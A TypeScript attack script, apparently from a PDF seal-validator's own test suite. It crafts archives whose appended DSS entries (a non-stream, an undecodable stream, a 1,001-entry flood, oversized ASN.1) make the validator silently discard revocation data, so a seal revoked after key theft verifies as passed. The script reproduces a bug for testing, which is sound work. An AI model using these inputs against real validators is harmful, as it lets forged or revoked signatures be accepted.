// P1c: one bad DSS entry, or one too many, withdraws every DSS item of every revision. P1b's fix (4790d81) reads
// validation data from every revision's DSS ("a later revision can add data but never withdraw it"). `dssData`
// (src/checks/pades.ts) does so inside one try/catch whose catch returns what was gathered so far: an entry that
// is not a stream (`FormatError("DSS entry is not a stream")`), a stream that does not decode, or a count above
// `maxValidationDataItems` (a `LimitError`) ends the reading silently, and the seal is judged on the CMS alone.
// The entries are read certificates, then OCSP responses, then CRLs: an OCSP entry added by the latest revision
// that fails drops every CRL of every earlier revision, however many archive timestamps cover them.
// Scenario (L3/P1b's): the seal key is stolen; the CA revokes the seal at 08:06 (keyCompromise); the thief seals at
// 08:36 with the CA's "good" of 07:36 in the CMS. The archivist adds the CA's CRL of 2025-12-10 (it lists the seal,
// revoked 08:06) to a DSS and an archive timestamp over it. The thief then appends one LTV-only revision.
// The same count decides the other way one entry lower (`genuine-1000`): samples/valid/archive.pdf, genuine, plus
// 1,000 distinct junk entries in a DSS: seal-certificate counts CMS and DSS items together (1,002 > 1,000) and
// fails the seal, TOTAL-FAILED / FORMAT_FAILURE, "forged" for "not read".
// augment, augment-honest: the not-stream file (or the archivist's) given to augment (loopback TSA, the TSA CA's current
// "good" as --ocsp): augment reads the DSS its own way and refuses both, while verify passes the first.
// asn1: 11 DSS "certificates" of 20,000 ASN.1 values each: their sum passes maxAsn1Nodes, and the LimitError that
// dssData rethrows on purpose is swallowed by its own outer catch.
//   npx tsx scripts/attack-s5/dss-dropped.ts [honest|not-stream|undecodable|flood|asn1|genuine-1000|augment|augment-honest]
// honest: the archive as the archivist left it: TOTAL-FAILED / REVOKED. not-stream: the new revision's DSS lists, as
// one more OCSP response, a reference to a dictionary. undecodable: one more OCSP response whose stream says
// /Filter /FlateDecode over bytes that are not zlib. flood: 1,001 more OCSP entries (5-byte streams; the limit is
// 1,000 items). main: TOTAL-PASSED for all three, PAdES B-T (the DSS is gone), seal-modifications passed.
// DSS=1 adds EU DSS (now).
import { dirname } from "node:path";
import { augmentArchive } from "../../src/api/internal.js";
import { errorMessage } from "../../src/errors.js";
import { startTsa } from "../generator/servers.js";
import { NumberAllocator, appendUpdate, arr, dict, name, ref, withEntry, type NewObject } from "../../src/augment/writer.js";
import { parsePdf, readDss } from "../../src/input/pdf/index.js";
import { rawGet, type PdfObject } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { buildArchive } from "../generator/archive.js";
import { addDocumentTimestamp } from "../generator/attacks.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { serialBytes } from "../generator/pki.js";
import { TIMELINE } from "../generator/timeline.js";
import { dss, pki, sample, save, scopedCrl, show, tool, verify, withDss, work } from "../attack36/lib.js";

const mode = process.argv[2] ?? "not-stream";
if (!["honest", "not-stream", "undecodable", "flood", "asn1", "genuine-1000", "augment", "augment-honest"].includes(mode))
  throw new Error(`mode: honest|not-stream|undecodable|flood|asn1|genuine-1000|augment|augment-honest, not ${mode}`);
const P = pki();
const sealing = TIMELINE.timestampAt;
const compromise = new Date(sealing.getTime() - 30 * 60_000);
const cmsGood = createOcspResponse({ subject: P.seal, issuer: P.sealRoot, responder: P.sealRoot, producedAt: new Date(sealing.getTime() - 3600_000) });
const sealed = (await buildArchive(P, { seal: { revocation: { crls: [], ocsps: [cmsGood] } } })).pdf;
const crl = scopedCrl({
  issuer: P.sealRoot,
  number: 42,
  thisUpdate: new Date("2025-12-10T08:36:38Z"),
  nextUpdate: new Date("2025-12-17T08:36:38Z"),
  revoked: [{ serial: serialBytes(P.seal), at: compromise }],
});
// The archivist's: the CA's CRL in a DSS, then an archive timestamp over it (the test TSA, 2025-12-10 09:36:38).
const archived = await addDocumentTimestamp(withDss(sealed, { crls: [crl] }), P, new Date("2025-12-10T09:36:38Z"));

/** One LTV-only revision: the latest DSS with `count` entries appended to its /OCSPs (or /Certs), each made by `make` from a fresh number. */
function appendOcspEntries(pdf: Uint8Array, count: number, make: (num: number, i: number) => NewObject, key: "OCSPs" | "Certs" = "OCSPs"): Uint8Array {
  const doc = parsePdf(wholeSource(pdf), resolveLimits());
  const view = doc.latest();
  const alloc = new NumberAllocator(doc);
  const old = readDss(view);
  const objects: NewObject[] = [];
  const fresh: PdfObject[] = [];
  for (let i = 0; i < count; i++) {
    const num = alloc.take();
    objects.push(make(num, i));
    fresh.push(ref(num));
  }
  const dssRaw = rawGet(view.catalog(), "DSS");
  const oldDict = view.resolve(dssRaw);
  if (dssRaw?.kind !== "ref" || oldDict?.kind !== "dict") throw new Error("the archive has no DSS to extend");
  const listed = [...(((key === "OCSPs" ? old?.ocsps : old?.certs) ?? []) as PdfObject[]), ...fresh];
  objects.push({ num: dssRaw.num, gen: dssRaw.gen, value: withEntry(oldDict, key, arr(listed)) });
  return appendUpdate(doc, objects, alloc).bytes;
}

/** A DER SEQUENCE of `n` NULLs: a "certificate" of n + 1 ASN.1 values, under the per-certificate cap (20,000). */
function manyValues(n: number): Uint8Array {
  const body = new Uint8Array(n * 2).fill(0).map((_, i) => (i % 2 === 0 ? 0x05 : 0x00));
  const len = body.length;
  return new Uint8Array([0x30, 0x83, (len >> 16) & 0xff, (len >> 8) & 0xff, len & 0xff, ...body]);
}

const out =
  mode === "augment"
    ? appendOcspEntries(archived, 1, (num) => ({ num, value: dict({ Type: name("OCSP") }) }))
    : mode === "genuine-1000"
      ? withDss(sample("valid/archive.pdf"), {
          ocsps: Array.from({ length: 1000 }, (_, i) => new Uint8Array([0x30, 0x04, 0x02, 0x02, (i >> 8) & 0x7f, i & 0xff])),
        })
      : mode === "honest" || mode === "augment-honest"
        ? archived
        : mode === "not-stream"
          ? appendOcspEntries(archived, 1, (num) => ({ num, value: dict({ Type: name("OCSP") }) }))
          : mode === "undecodable"
            ? appendOcspEntries(archived, 1, (num) => ({ num, stream: new TextEncoder().encode("not zlib data"), dict: dict({ Filter: name("FlateDecode") }) }))
            : mode === "asn1"
              ? appendOcspEntries(archived, 11, (num, i) => ({ num, stream: manyValues(19_999 - i) }), "Certs")
              : appendOcspEntries(archived, 1001, (num, i) => ({ num, stream: new Uint8Array([0x30, 0x03, 0x02, 0x01, i & 0x7f]) }));
const file = save(work("p1c"), "archive.pdf", out);
const what: Record<string, string> = {
  honest: "",
  "augment-honest": "",
  augment: "; then one revision whose DSS adds an OCSP entry that is a dictionary",
  "not-stream": "; then one revision whose DSS adds an OCSP entry that is a dictionary",
  undecodable: "; then one revision whose DSS adds an OCSP stream that does not inflate",
  flood: "; then one revision whose DSS adds 1,001 tiny OCSP streams",
  asn1: '; then one revision whose DSS adds 11 "certificates" of 20,000 ASN.1 values each (maxAsn1Nodes 200,000 in sum)',
};
console.log(
  mode === "augment"
    ? appendOcspEntries(archived, 1, (num) => ({ num, value: dict({ Type: name("OCSP") }) }))
    : mode === "genuine-1000"
      ? `wrote ${file}: samples/valid/archive.pdf (genuine) plus a DSS of 1,000 distinct junk OCSP entries`
      : `wrote ${file}: seal revoked ${compromise.toISOString()} (keyCompromise), sealed ${sealing.toISOString()} with the CA's "good" of 07:36 in the CMS; the CA's CRL of 2025-12-10 saying so in a DSS covered by an archive timestamp of 2025-12-10T09:36:38Z${what[mode]}`,
);
show(mode, verify(file));
if (mode.startsWith("augment")) {
  // The file given to `sealcheck augment` (the loopback TSA, the TSA CA's current answer as --ocsp), as an archivist renews.
  const tsa = await startTsa(P.tsa);
  try {
    const current = createOcspResponse({ subject: P.tsa, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(Date.now() - 3600_000) });
    const r = await augmentArchive({ evidence: file, tsa: tsa.url, trust: ["samples/trust"], ocsp: [current] });
    console.log(
      `== augment: ${r.before.indication} ${r.before.padesLevel} -> ${r.after.indication} ${r.after.padesLevel}; new ${r.timestamp.field} at ${r.timestamp.genTime}`,
    );
    show("renewed", verify(save(dirname(file), "renewed.pdf", r.bytes)));
  } catch (e) {
    console.log(`== augment refused: ${errorMessage(e)}`);
  } finally {
    await tsa.close();
  }
}
console.log("== qpdf --check:", tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]);
console.log(
  "== pdfsig:",
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature Validation|total document/i.test(l))
    .join(" | "),
);
dss(file);
